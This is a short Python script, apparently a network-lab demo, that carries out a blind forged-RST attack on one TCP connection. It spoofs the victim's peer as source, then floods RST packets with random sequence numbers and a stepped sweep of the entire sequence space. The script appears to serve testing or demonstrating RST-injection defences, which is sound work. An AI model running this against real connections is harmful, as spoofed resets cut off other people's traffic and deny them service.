# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""A blind forged-RST attack on one known 4-tuple, as the demo fires it: RANDOM RSTs with random
sequence numbers, then one RST every STEP bytes over the whole sequence space; prints the count."""

import argparse
import random

import netlab as nl


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--ns", required=True, help="attacker's namespace")
    ap.add_argument("--ifname", required=True)
    ap.add_argument("--smac", required=True)
    ap.add_argument("--dmac", required=True, help="next hop towards the victim")
    ap.add_argument("--src", required=True, help="spoofed source: the victim's peer")
    ap.add_argument("--sport", type=int, required=True)
    ap.add_argument("--dst", required=True, help="the victim")
    ap.add_argument("--dport", type=int, required=True)
    ap.add_argument("--random", type=int, default=20000)
    ap.add_argument("--step", type=int, default=32768)
    a = ap.parse_args()
    rng = random.Random()
    seqs = [rng.getrandbits(32) for _ in range(a.random)]
    start = rng.getrandbits(32)
    seqs += [(start + k * a.step) & 0xffffffff for k in range(-(-(1 << 32) // a.step))]
    inj = nl.Injector(a.ns, a.ifname, a.smac, a.dmac)
    print(inj.flood_seqs(a.src, a.dst, a.sport, a.dport, seqs, ":" in a.dst))


if __name__ == "__main__":
    main()
